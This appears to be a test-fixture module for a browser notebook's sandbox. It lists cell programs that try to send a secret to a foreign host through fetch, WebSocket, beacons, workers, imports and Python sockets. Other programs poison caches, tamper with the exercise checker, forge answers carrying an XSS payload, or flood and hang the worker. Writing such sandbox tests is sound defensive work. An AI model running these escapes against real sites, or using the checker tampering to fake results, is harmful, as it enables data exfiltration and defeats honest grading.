"""What a reader might paste into a cell to get out of the room: to a host, a store, another page.

Programs for `nnbook.lab.browser.run_cells`, by name. `SITE`, `FOREIGN` and `SECRET` are set for
them; ``script`` runs JavaScript in Python's own thread, ``thread`` in one that it starts.
"""

import textwrap

BEFORE = """
import js
from pyodide.ffi import create_proxy, to_js
SITE, FOREIGN, SECRET = "[site]", "[foreign]", "secret"
HEAD = f"var SITE = '{SITE}', FOREIGN = '{FOREIGN}', SECRET = 'secret';"
def blob(code):
    return js.URL.createObjectURL(js.Blob.new(to_js([HEAD + code])))
def script(code):
    js.importScripts(blob("self.tried = 0; try { " + code + " } catch {} self.tried = 1"))
    assert js.tried, "that is no JavaScript"
def thread(code, **options):
    return js.Worker.new(blob(code), **options)
"""

TRIED = "tried\n"  # what each of them prints, if it runs at all


def program(code: str, site: str, foreign: str) -> str:
    """The whole program, for `nnbook.lab.browser.run_cells`."""
    before = BEFORE.replace("[site]", site).replace("[foreign]", foreign)
    body = textwrap.indent(code.strip(), "    ")
    return (
        f"{before}\ntry:\n{body}\nexcept AssertionError:\n    raise\n"
        'except BaseException:\n    pass\nprint("tried")'
    )


# In JavaScript, tried in Python's own thread and in one that it starts: the names that were
# taken from the first would come back in the second.
TRIED_TWICE = {
    "fetch": "fetch(`${FOREIGN}/?${SECRET}`)",
    "fetch of the site": "fetch(`${SITE}/index.html?${SECRET}`)",
    "fetch of a prototype": """
        delete self.fetch;
        const own = (of) => Object.getOwnPropertyDescriptor(of, 'fetch')?.value;
        const find = (of) => own(of) ?? find(Object.getPrototypeOf(of));
        find(self).call(self, `${FOREIGN}/?${SECRET}`)""",
    "constructor of a constructor": """
        const made = (() => 0).constructor.constructor('address', 'fetch(address)');
        made(`${FOREIGN}/?${SECRET}`)""",
    "eval": "(0, eval)('fetch')(`${FOREIGN}/?${SECRET}`); eval('1')",
    "timer with text": "setTimeout(`fetch('${FOREIGN}/?${SECRET}')`, 0)",
    "request that asks the cache": """
        const how = { cache: 'only-if-cached', mode: 'same-origin' };
        fetch(new Request(`${SITE}/index.html`, how))""",
    "request without cors": "fetch(`${FOREIGN}/?${SECRET}`, { mode: 'no-cors', cache: 'reload' })",
    "request that outlives": """
        fetch(`${FOREIGN}/`, { method: 'POST', body: SECRET, keepalive: true })""",
    "XMLHttpRequest": """
        const request = new XMLHttpRequest();
        request.open('POST', `${FOREIGN}/`, false);
        request.send(SECRET)""",
    "WebSocket": "new WebSocket(`${FOREIGN.replace('http', 'ws')}/?${SECRET}`)",
    "WebSocketStream": "new WebSocketStream(`${FOREIGN.replace('http', 'ws')}/?${SECRET}`)",
    "WebTransport": "new WebTransport(`${FOREIGN.replace('http:', 'https:')}/?${SECRET}`)",
    "EventSource": "new EventSource(`${FOREIGN}/?${SECRET}`)",
    "beacon": "navigator.sendBeacon(`${FOREIGN}/`, SECRET)",
    "RTCPeerConnection": """
        const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${FOREIGN.slice(7)}` }] });
        peer.createDataChannel('');
        peer.createOffer().then((offer) => peer.setLocalDescription(offer))""",
    "font": """
        const font = new FontFace('a', `url(${FOREIGN}/?${SECRET})`);
        fonts.add(font);
        font.load()""",
    "picture of a canvas": """
        const context = new OffscreenCanvas(9, 9).getContext('2d');
        context.filter = `url(${FOREIGN}/?${SECRET})`;
        context.fillRect(0, 0, 9, 9)""",
    "WebAssembly": "WebAssembly.compileStreaming(fetch(`${FOREIGN}/?${SECRET}`))",
    "import()": "import(`${FOREIGN}/${SECRET}.js`)",
    "import() of the site": "import(`${SITE}/_static/book.js?${SECRET}`)",
    "import() of data": "import(`data:text/javascript,fetch('${FOREIGN}/?${SECRET}')`)",
    "import in a blob": """
        const text = `import '${FOREIGN}/${SECRET}.js'`;
        import(URL.createObjectURL(new Blob([text], { type: 'text/javascript' })))""",
    "importScripts": "importScripts(`${FOREIGN}/${SECRET}.js`)",
    "importScripts of the site": "importScripts(`${SITE}/_static/book.js?${SECRET}`)",
    "thread from data": "new Worker(`data:text/javascript,fetch('${FOREIGN}/?${SECRET}')`)",
    "thread from the site": "new Worker(`${SITE}/_static/widgets/python.js?${SECRET}`)",
    "thread from elsewhere": "new Worker(`${FOREIGN}/${SECRET}.js`, { type: 'module' })",
    "thread from a blob": """
        const text = `fetch('${FOREIGN}/?${SECRET}')`;
        new Worker(URL.createObjectURL(new Blob([text])))""",
    "thread of modules": """
        const text = `import '${FOREIGN}/${SECRET}.js'; fetch('${FOREIGN}')`;
        const address = URL.createObjectURL(new Blob([text], { type: 'text/javascript' }));
        new Worker(address, { type: 'module' })""",
    "shared thread": """
        const text = `fetch('${FOREIGN}/?${SECRET}')`;
        new SharedWorker(URL.createObjectURL(new Blob([text], { type: 'text/javascript' })))""",
    "service worker": "navigator.serviceWorker.register(`${SITE}/sw.js?${SECRET}`)",
    "caches": """
        caches.keys().then(async (names) => {
          for (const name of [...names, 'new']) {
            const cache = await caches.open(name);
            await cache.put(`${SITE}/runtime/editor/editor.js`, new Response(SECRET));
          }
        })""",
    "deleted caches": "caches.keys().then((names) => names.map((name) => caches.delete(name)))",
    "IndexedDB": "indexedDB.open(SECRET, 1)",
    "private files": """
        navigator.storage.getDirectory()
          .then((folder) => folder.getFileHandle(SECRET, { create: true }))""",
    "lasting storage": "navigator.storage.persist()",
    "cookies": "cookieStore.set('a', SECRET)",
    "local storage": "localStorage.setItem('a', SECRET)",
    "locks": "navigator.locks.request('book', { steal: true }, () => new Promise(() => null))",
    "BroadcastChannel": "new BroadcastChannel('book').postMessage(SECRET)",
    "notification": "Notification.requestPermission?.(); new Notification(SECRET)",
    "window": """
        for (const each of [self.parent, self.top, self.opener]) each?.postMessage(SECRET, '*')""",
    "navigation": """
        self.location.href = `${FOREIGN}/?${SECRET}`;
        self.top.location = `${FOREIGN}/?${SECRET}`""",
}

IN_PYTHON = {
    "js": "js.fetch(f'{FOREIGN}/?{SECRET}')",
    "pyodide_js": """
import pyodide_js
pyodide_js.loadPackage(f"{FOREIGN}/{SECRET}-1-py3-none-any.whl")""",
    "pyodide_js, its store": """
import pyodide_js
pyodide_js.FS.mkdir("/kept")
pyodide_js.FS.mount(pyodide_js.FS.filesystems.IDBFS, to_js({}), "/kept")
open("/kept/a", "w").write(SECRET)
pyodide_js.FS.syncfs(False, lambda *_: None)""",
    "run_js": """
from pyodide.code import run_js
run_js(f"fetch('{FOREIGN}/?{SECRET}')")""",
    "open_url": """
from pyodide.http import open_url
open_url(f"{FOREIGN}/?{SECRET}")""",
    "pyfetch": """
import asyncio
from pyodide.http import pyfetch
asyncio.ensure_future(pyfetch(f"{FOREIGN}/?{SECRET}"))""",
    "urllib": """
from urllib.request import urlopen
urlopen(f"{FOREIGN}/?{SECRET}")""",
    "socket": """
import socket
host, port = FOREIGN.removeprefix("http://").split(":")
socket.create_connection((host, int(port))).send(SECRET.encode())""",
}

# What changes the Python in which it runs: the checks of exercises must not notice. They run one
# after another; what is taken from all of Python comes last.
TAMPERED = {
    "library that lies": """
import nnbook, sys
nnbook.Dropout.forward = lambda self, x: x
sys.modules["json"] = None""",
    "library that is gone": """
import shutil
shutil.rmtree("/book")""",
    "deleted builtins": """
import builtins
for name in ("print", "len", "isinstance", "__build_class__"):
    delattr(builtins, name)
builtins.repr = None""",
}

# What happens to the run itself or to the next one: the kind of the failure that says so.
ENDS = {
    "flood of 1 MB": ("strange", "for _ in range(300): js.postMessage('x' * 1_000_000)"),
    "flood of objects": (
        "strange",
        "a = js.Array.new(100_000).fill(js.Object.new())\nfor _ in range(30): js.postMessage(a)",
    ),
    "flood of words": ("strange", "for _ in range(100_000): js.postMessage('x')"),
    "flood of progress": (
        "strange",
        """for _ in range(50_000):
    for call in range(1, 9):
        js.postMessage('{"call": %d, "progress": {"cell": 0, "cells": 1}}' % call)""",
    ),
    "forged answer": (
        "strange",
        """for call in range(1, 400):
    js.postMessage('{"call": %d, "answer": {"output": "<img src=x onerror=alert()>", '
                   '"error": null, "done": 1, "__proto__": 1}}' % call)""",
    ),
    "close()": ("gone", "js.close()"),
    "close() later": ("gone", "script('setTimeout(() => self.close(), 0)')"),
    "endless microtasks": (
        "gone",
        "script('const again = () => Promise.resolve().then(again); again()')",
    ),
    "endless timer": ("gone", "script('setTimeout(() => { for (;;); }, 0)')"),
}

# What is allowed, though it costs much or breaks what is only a program's own: it must not cost
# the page.
HEAVY = {
    "calls that are swallowed": """
script("self.addEventListener('message', (e) => e.stopImmediatePropagation(), true)")
js.JSON.stringify = js.JSON.parse = None""",
    "errors that nobody waits for": """
error = js.Error.new("x" * 100_000)
for _ in range(50):
    js.reportError(error)
    js.Promise.reject(error)""",
    "memory": """
kept = []
try:
    for _ in range(9):
        kept.append(js.Uint8Array.new(100_000_000))
except BaseException:
    pass""",
    "threads": "kept = [thread('setInterval(() => 0, 1)') for _ in range(20)]",
}


def programs() -> dict[str, str]:
    """All programs that get out, if anything does; the readers' run goes on after them."""
    found = dict(IN_PYTHON)
    for name, code in TRIED_TWICE.items():
        found[name] = f"script({code!r})"
        found[f"{name}, in a thread"] = f"kept = thread({code!r})"
    return found
